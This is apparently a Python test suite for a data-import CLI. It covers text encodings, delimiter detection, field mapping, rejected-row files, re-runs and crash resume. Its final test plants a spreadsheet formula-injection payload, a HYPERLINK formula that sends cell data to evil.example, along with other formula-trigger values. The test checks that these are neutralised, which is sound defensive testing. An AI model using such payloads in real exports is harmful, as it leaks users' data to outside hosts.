"""`sada import interactions`: encodings, delimiters, mapping, rejects, re-runs, crash resume."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from rich.console import Console
from sqlalchemy import func, select
from sqlalchemy.engine import make_url

from sada.db.engine import Database, open_database
from sada.interactions.importer import ImportError_, run_import
from sada.interactions.models import Interaction
from sada.people.models import Person
from sada.settings import Settings

ROOT = Path(__file__).resolve().parents[2]
PG_URL = os.environ.get("SADA_TEST_DATABASE_URL", "").strip()

TEXTS = [
    "سلام، سفارشم هنوز نرسیده؛ کد پیگیری ۱۲۳۴",  # Persian, Persian digits
    "الفاتورة خاطئة، تم خصم المبلغ مرتين!",  # Arabic
    "快递太慢了，客服也不回复。😡",  # Chinese + emoji
    'Great app, but the "pay" button crashes 👍🏽',  # English, quotes, skin-tone emoji
]
HEADER = ["external_id", "occurred_at", "channel", "text", "person.email", "person.name"]
NAMES = ["مریم احمدی", "محمد العلي", "王小明", "Jane O'Neil"]


def rows(n: int = 4) -> list[list[str]]:
    return [
        [
            f"r{i}",
            f"2026-05-0{1 + i % 9}T10:00:00+03:30",
            "email",
            TEXTS[i % 4],
            f"user{i}@example.com",
            NAMES[i % 4],
        ]
        for i in range(n)
    ]


def write_csv(path: Path, data: list[list[str]], *, delimiter: str = ",", encoding="utf-8"):  # type: ignore[no-untyped-def]
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(data)
    raw = buf.getvalue()
    if encoding == "utf-16-le":
        path.write_bytes(b"\xff\xfe" + raw.encode("utf-16-le"))
    elif encoding == "utf-16-be":
        path.write_bytes(b"\xfe\xff" + raw.encode("utf-16-be"))
    else:
        path.write_bytes(raw.encode(encoding))
    return path


def quiet() -> Console:
    return Console(file=io.StringIO(), width=200)


def stored(db: Database, ws: int, source: str = "import") -> dict[str, Interaction]:
    with db.reader(ws) as session:
        found = session.execute(select(Interaction).where(Interaction.source == source)).scalars()
        return {i.external_id: i for i in found}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16-le", "utf-16-be"])
def test_encodings_keep_every_script_exact(db, workspace, tmp_path, encoding):  # type: ignore[no-untyped-def]
    path = write_csv(tmp_path / "in.csv", [HEADER, *rows()], encoding=encoding)
    summary = run_import(db, workspace.id, path, console=quiet())
    assert summary == {
        "rows": 4,
        "stored": 4,
        "duplicates": 0,
        "rejected": 0,
        "rejects_file": None,
        "resumed_from": 0,
    }
    got = stored(db, workspace.id)
    assert [got[f"r{i}"].text for i in range(4)] == TEXTS
    assert got["r0"].direction == "inbound" and got["r0"].type == "message"
    with db.reader(workspace.id) as session:
        names = set(session.execute(select(Person.name)).scalars())
    assert names == set(NAMES)
    assert not (tmp_path / "in.csv.progress.json").exists()


def test_latin1_file_is_refused_naming_line_and_byte(db, workspace, tmp_path):  # type: ignore[no-untyped-def]
    # Good UTF-8 lines followed by a Latin-1 line, as a badly merged export looks.
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n").writerows([HEADER, *rows(2)])
    prefix = buf.getvalue().encode("utf-8")
    tail = "r9,2026-05-01T10:00:00Z,email,Crème brûlée,a@b.co,\n".encode("latin-1")
    path = tmp_path / "latin.csv"
    path.write_bytes(prefix + tail)
    bad_byte = len(prefix) + tail.index(b"\xe8")
    with pytest.raises(ImportError_) as info:
        run_import(db, workspace.id, path, console=quiet())
    message = str(info.value)
    assert "line 4" in message and f"byte {bad_byte:,}" in message and "0xe8" in message
    assert "UTF-8" in message
    assert stored(db, workspace.id) == {}


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_delimiter_is_sniffed(db, workspace, tmp_path, delimiter):  # type: ignore[no-untyped-def]
    data = [HEADER, *rows(), ["x1", "2026-05-01T10:00:00Z", "chat", "a, b; c | d\te", "x@y.co", ""]]
    path = write_csv(tmp_path / "in.csv", data, delimiter=delimiter)
    summary = run_import(db, workspace.id, path, console=quiet())
    assert summary["stored"] == 5 and summary["rejected"] == 0
    assert stored(db, workspace.id)["x1"].text == "a, b; c | d\te"


def test_malformed_rows_go_to_rejects_file_with_reasons(db, workspace, tmp_path):  # type: ignore[no-untyped-def]
    data = [
        HEADER,
        ["g1", "2026-05-01T10:00:00Z", "email", "خوب بود", "g1@example.com", ""],
        ["b1", "2026-05-01T10:00:00Z", "pigeon", "bad channel", "b1@example.com", ""],
        ["b2", "2026-05-01T10:00:00Z", "email", "bad email", "not-an-email", ""],
        ["b3", "yesterday", "email", "no date", "b3@example.com", ""],
        ["b4", "too", "few"],
        ["g2", "2026-05-01T10:00:00Z", "sms", "multi\nline 多行", "g2@example.com", ""],
        ["b5", "2026-05-01T10:00:00", "email", "no offset", "b5@example.com", "", "extra"],
    ]
    path = write_csv(tmp_path / "in.csv", data)
    summary = run_import(db, workspace.id, path, console=quiet())
    assert (summary["rows"], summary["stored"], summary["rejected"]) == (7, 2, 5)
    assert set(stored(db, workspace.id)) == {"g1", "g2"}
    assert summary["rejects_file"] == str(tmp_path / "in.csv.rejects.csv")
    raw = Path(summary["rejects_file"]).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rejected = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rejected[0] == ["line", "errors", *HEADER]
    by_id = {r[2]: r for r in rejected[1:]}
    assert by_id["b1"][0] == "3" and by_id["b1"][1].startswith("channel: unknown channel 'pigeon'")
    assert by_id["b2"][0] == "4" and by_id["b2"][1].startswith("person.email: not a valid email")
    assert by_id["b3"][1].startswith("occurred_at:")
    assert by_id["b4"][0] == "6" and "3 fields; the header has 6" in by_id["b4"][1]
    # the multi-line row before it takes lines 7-8, so the last row starts on line 9
    assert by_id["b5"][0] == "9" and by_id["b5"][2:] == data[7]


def test_unknown_columns_go_to_attributes_with_one_warning(db, workspace, tmp_path):  # type: ignore[no-untyped-def]
    data = [
        ["when", "channel", "Message", "Email", "Segment", "order_no", "store"],
        ["2026-05-01T10:00:00Z", "in_store", "عالی", "a@example.com", "vip", "A-1", "تهران"],
        ["2026-05-02T10:00:00Z", "in_store", "bad", "b@example.com", "", "A-2", "Dubai"],
    ]
    path = write_csv(tmp_path / "in.csv", data)
    out = io.StringIO()
    summary = run_import(
        db,
        workspace.id,
        path,
        source="pos",
        mapping={
            "occurred_at": "when",
            "text": "Message",
            "person.email": "Email",
            "person.traits.segment": "Segment",
            "attributes.order_id": "order_no",
        },
        console=Console(file=out, width=300),
    )
    assert summary["stored"] == 2
    printed = out.getvalue()
    assert printed.count("not item fields") == 1 and "'store'" in printed
    got = stored(db, workspace.id, "pos")
    first = next(i for i in got.values() if i.text == "عالی")
    assert first.attributes == {"order_id": "A-1", "store": "تهران"}
    assert first.external_id.startswith("row-")  # derived from the row's content
    with db.reader(workspace.id) as session:
        person = session.get(Person, first.person_id)
        assert person is not None and person.segment == "vip"


def test_mapping_errors_are_clear(db, workspace, tmp_path):  # type: ignore[no-untyped-def]
    path = write_csv(tmp_path / "in.csv", [HEADER, *rows(1)])
    with pytest.raises(ImportError_, match=r"no column 'Body'.*'person.email'"):
        run_import(db, workspace.id, path, mapping={"text": "Body"}, console=quiet())
    with pytest.raises(ImportError_, match=r"unknown field 'mood'"):
        run_import(db, workspace.id, path, mapping={"mood": "text"}, console=quiet())
    nochannel = write_csv(
        tmp_path / "n.csv", [["occurred_at", "text"], ["2026-05-01T10:00:00Z", "x"]]
    )
    with pytest.raises(ImportError_, match=r"no column for channel"):
        run_import(db, workspace.id, nochannel, console=quiet())
    assert stored(db, workspace.id) == {}


def test_jsonl_bad_lines_rejected_good_ones_stored(db, workspace, tmp_path):  # type: ignore[no-untyped-def]
    lines = [
        json.dumps(
            {
                "external_id": "j1",
                "occurred_at": "2026-05-01T10:00:00Z",
                "channel": "chat",
                "text": TEXTS[2],
                "person": {"phone": "+989121234567"},
                "mood": "angry",
            },
            ensure_ascii=False,
        ),
        '{"external_id": "j2", "occurred_at": ',
        "[1, 2]",
        "",
        json.dumps(
            {"occurred_at": "2026-05-01T10:00:00Z", "channel": "web", "text": TEXTS[0]},
            ensure_ascii=False,
        ),
    ]
    path = tmp_path / "in.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8-sig")
    summary = run_import(db, workspace.id, path, source="chatlog", console=quiet())
    assert (summary["rows"], summary["stored"], summary["rejected"]) == (4, 2, 2)
    got = stored(db, workspace.id, "chatlog")
    assert got["j1"].text == TEXTS[2] and got["j1"].attributes == {"mood": "angry"}
    rejected = list(csv.reader(io.StringIO(Path(summary["rejects_file"]).read_text("utf-8-sig"))))
    assert [r[0] for r in rejected[1:]] == ["2", "3"]
    assert "invalid JSON" in rejected[1][1] and rejected[1][2] == lines[1]
    assert "expected a JSON object" in rejected[2][1]
    again = run_import(db, workspace.id, path, source="chatlog", console=quiet())
    assert (again["stored"], again["duplicates"]) == (0, 2)


def test_rerun_is_idempotent_without_external_ids(db, workspace, tmp_path):  # type: ignore[no-untyped-def]
    data = [[c for c in HEADER if c != "external_id"]] + [r[1:] for r in rows(6)]
    path = write_csv(tmp_path / "in.csv", data)
    first = run_import(db, workspace.id, path, console=quiet())
    second = run_import(db, workspace.id, path, console=quiet())
    assert (first["stored"], first["duplicates"]) == (6, 0)
    assert (second["stored"], second["duplicates"]) == (0, 6)
    assert len(stored(db, workspace.id)) == 6


def test_changed_file_ignores_stale_checkpoint(db, workspace, tmp_path):  # type: ignore[no-untyped-def]
    path = write_csv(tmp_path / "in.csv", [HEADER, *rows(3)])
    # A checkpoint from another file version must not make rows get skipped.
    (tmp_path / "in.csv.progress.json").write_text(
        json.dumps(
            {"version": 1, "file": {"size": 1, "mtime_ns": 1, "head_sha256": "x"}, "rows_done": 3}
        )
    )
    summary = run_import(db, workspace.id, path, console=quiet())
    assert (summary["stored"], summary["resumed_from"]) == (3, 0)


# ---------------------------------------------------------------- crash and resume


def _fresh_pg_url() -> Iterator[str]:
    import psycopg

    url = make_url(Settings(database_url=PG_URL).database_url)
    admin = url.set(drivername="postgresql").render_as_string(hide_password=False)
    name = f"sada_import_{os.getpid()}_{uuid.uuid4().hex[:6]}"
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    try:
        yield url.set(database=name).render_as_string(hide_password=False)
    finally:
        with psycopg.connect(admin, autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.fixture(params=["sqlite", "postgresql"])
def crash_db_url(request, tmp_path) -> Iterator[str]:  # type: ignore[no-untyped-def]
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'crash.db'}"
        return
    if not PG_URL:
        pytest.skip("PostgreSQL leg skipped: set SADA_TEST_DATABASE_URL=postgresql://... to run it")
    yield from _fresh_pg_url()


def _sada(url: str, *args: str) -> list[str]:
    return [sys.executable, "-m", "sada.cli.main", *args]


def test_import_killed_midway_resumes_and_stores_each_row_once(crash_db_url, tmp_path):  # type: ignore[no-untyped-def]
    n = 10_000  # 40 batches: the kill lands after 4 and long before the end
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(HEADER)
        for i in range(n):
            writer.writerow(
                [
                    f"c{i}",
                    "2026-05-01T10:00:00+03:30",
                    "email",
                    f"{TEXTS[i % 4]} #{i}",
                    f"p{i % 4000}@example.com",
                    NAMES[i % 4],
                ]
            )
    env = {**os.environ, "SADA_DATABASE_URL": crash_db_url, "SADA_ENVIRONMENT": "test"}
    subprocess.run(
        _sada(crash_db_url, "workspace", "create", "crash"),
        env=env,
        cwd=ROOT,
        check=True,
        capture_output=True,
    )
    command = _sada(
        crash_db_url,
        "import",
        "interactions",
        str(path),
        "--workspace",
        "crash",
        "--source",
        "legacy",
        "--batch-size",
        "250",
    )
    progress = tmp_path / "big.csv.progress.json"
    proc = subprocess.Popen(
        command, env=env, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
    )
    committed = 0
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and proc.poll() is None:
        if progress.exists():
            try:
                committed = json.loads(progress.read_text())["rows_done"]
            except (ValueError, KeyError):
                committed = 0  # caught mid-replace; read again
            if committed >= 1000:
                break
        time.sleep(0.02)
    assert proc.poll() is None, "the import finished before it could be killed"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert proc.returncode == -signal.SIGKILL
    assert 1000 <= committed < n

    done = subprocess.run(command, env=env, cwd=ROOT, capture_output=True, text=True, check=True)
    summary = json.loads(done.stdout.strip().splitlines()[-1])
    assert summary["resumed_from"] >= committed
    assert summary["rows"] == n and summary["rejected"] == 0
    assert summary["stored"] + summary["duplicates"] == n
    assert summary["duplicates"] <= 1000  # at most the batches committed after the checkpoint
    assert not progress.exists()

    db = open_database(Settings(database_url=crash_db_url).database_url)
    try:
        with db.reader() as session:
            counts = session.execute(
                select(Interaction.external_id, func.count())
                .where(Interaction.source == "legacy")
                .group_by(Interaction.external_id)
                .execution_options(all_workspaces=True)
            ).all()
    finally:
        db.dispose()
    assert len(counts) == n
    assert {eid for eid, _ in counts} == {f"c{i}" for i in range(n)}
    assert max(c for _, c in counts) == 1


def test_rejects_file_is_formula_guarded(db, workspace, tmp_path):  # type: ignore[no-untyped-def]
    """Finding 7: the rejects file is opened in a spreadsheet to fix; none of its cells runs."""
    payload = '=HYPERLINK("http://evil.example/?"&A1,"fix me")'
    data = [
        HEADER,
        ["b1", "2026-05-01T10:00:00Z", "pigeon", payload, "b1@example.com", "@SUM(1+1)"],
        ["+b2", "2026-05-01T10:00:00Z", "email", "-2+3", "not-an-email", ""],
    ]
    path = write_csv(tmp_path / "in.csv", data)
    summary = run_import(db, workspace.id, path, console=quiet())
    assert summary["rejected"] == 2
    text = Path(summary["rejects_file"]).read_text("utf-8-sig")
    rejected = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rejected for cell in row]
    assert "'" + payload in cells and "'@SUM(1+1)" in cells and "'+b2" in cells
    assert "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
